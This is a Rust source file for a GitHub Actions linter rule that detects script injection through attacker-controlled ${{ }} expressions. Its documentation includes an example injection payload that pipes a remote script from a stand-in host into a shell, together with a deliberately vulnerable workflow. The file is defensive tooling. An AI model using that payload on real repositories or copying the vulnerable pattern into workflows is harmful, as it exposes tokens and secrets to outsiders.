use super::{attacker_controlled, expressions, steps, tainted, tainted_by};
use crate::parse::Document;
use crate::parse::workflow::action_name;
use crate::rules::{Context, declare_rule};

declare_rule! {
    /// ## What it does
    /// Flags an attacker-controllable expression expanded into code: a `${{ … }}` in a step's
    /// `run:` (workflows and composite actions) or in a code input of a well-known action
    /// (`actions/github-script` `script`, `azure/cli` and `azure/powershell` `inlineScript`,
    /// `Amadevus/pwsh-script` `script`, `mikefarah/yq` `cmd`),
    /// whose value comes from a context that outsiders choose — `github.event.issue.title`,
    /// `…issue.body`, `…pull_request.title`, `…pull_request.body`, `…pull_request.head.ref`,
    /// `github.head_ref`, `…comment.body`, `…review.body`, `…review_comment.body`,
    /// `…discussion.title`, commit messages and author names, `…workflow_run.head_branch`,
    /// `…client_payload.*`, and objects containing them (`toJSON(github.event)`).
    ///
    /// `${{ env.X }}` counts when `X` is set, at the step, job or workflow level, from such a
    /// context. The decision is made on the parsed expression: `contains(github.event.issue.title, 'x')`
    /// or `github.head_ref == 'main'` yield booleans and are fine; `format(…)`, `join(…)`,
    /// `toJSON(…)`, `||` and `&&` pass values through. Values only maintainers set (release
    /// fields, `workflow_dispatch` inputs, pushed tag names) and step outputs are not reported.
    /// The finding points at the expression inside the script.
    ///
    /// ## Why is this bad?
    /// GitHub substitutes `${{ }}` into the script text before the shell runs it. A pull request
    /// titled `"; curl evil.sh | sh; echo "` runs that command with the workflow's token and
    /// secrets — the classic GitHub Actions script injection.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through an environment variable, which the shell does not execute:
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    pub static TEMPLATE_INJECTION = {
        id: "template-injection",
        summary: "attacker-controlled expression expanded into a script",
        level: Error,
        kinds: [Workflow, Action],
        tags: ["security", "injection", "external/cwe/cwe-94"],
        security_severity: Some("9.0"),
        check: Some(check),
    }
}

/// Inputs of well-known actions that are code: (action, input, what to call it).
const CODE_INPUTS: &[(&str, &str, &str)] = &[
    (
        "actions/github-script",
        "script",
        "the `github-script` script",
    ),
    ("azure/cli", "inlinescript", "the `azure/cli` inline script"),
    (
        "azure/powershell",
        "inlinescript",
        "the `azure/powershell` inline script",
    ),
    ("amadevus/pwsh-script", "script", "the `pwsh-script` script"),
    ("mikefarah/yq", "cmd", "the `yq` command line"),
];

fn check(doc: &Document, cx: &mut Context) {
    let mut reports = Vec::new();
    let workflow_env = match doc {
        Document::Workflow(root) | Document::Action(root) => root.get("env"),
        _ => None,
    };
    let job_env = |job: &Option<String>| match (doc, job) {
        (Document::Workflow(root), Some(id)) => root
            .get("jobs")
            .and_then(|j| j.get(id))
            .and_then(|j| j.get("env")),
        _ => None,
    };
    for (job, step) in steps(doc) {
        let mut code = Vec::new();
        if let Some(run) = step.get("run") {
            code.push((run, "`run:`"));
        }
        if let Some(action) = action_name(step)
            && let Some(with) = step.get("with").and_then(|w| w.as_map())
        {
            for (name, input, what) in CODE_INPUTS {
                if action == *name {
                    code.extend(
                        with.iter()
                            .filter(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(input)))
                            .map(|e| (&e.value, *what)),
                    );
                }
            }
        }
        // `${{ env.X }}` is as dangerous as the value X was set from, at the step, job or
        // workflow level (the nearest one wins).
        let envs = [step.get("env"), job_env(&job), workflow_env];
        let env_origin = |var: &str| -> Option<String> {
            // Context properties are case-insensitive.
            let entry = envs.iter().flatten().find_map(|env| {
                env.as_map()?
                    .iter()
                    .find(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(var)))
            })?;
            let var = entry.key_str()?;
            let text = entry.value.as_str()?;
            crate::parse::expr::find_all(text)
                .into_iter()
                .filter_map(|e| e.expr.ok())
                .find_map(|e| tainted(&e).into_iter().next())
                .map(|(context, _)| format!("env.{var}` set from `{context}"))
        };
        let source = |path: &str| -> Option<String> {
            if let Some(var) = path.strip_prefix("env.") {
                return env_origin(var);
            }
            attacker_controlled(path).then(|| path.to_string())
        };
        for (node, place) in code {
            for (span, expr) in expressions(node, &cx.file.text) {
                if let Some((context, _)) = tainted_by(&expr, &source).into_iter().next() {
                    reports.push((span, format!("`{context}` is attacker-controlled and is expanded into {place}: it can inject code")));
                }
            }
        }
    }
    for (span, message) in reports {
        cx.report(span, message)
            .help("pass the value through `env:` (`TITLE: ${{ … }}`) and use it as a shell variable (`\"$TITLE\"`), or `process.env.TITLE` in github-script");
    }
}
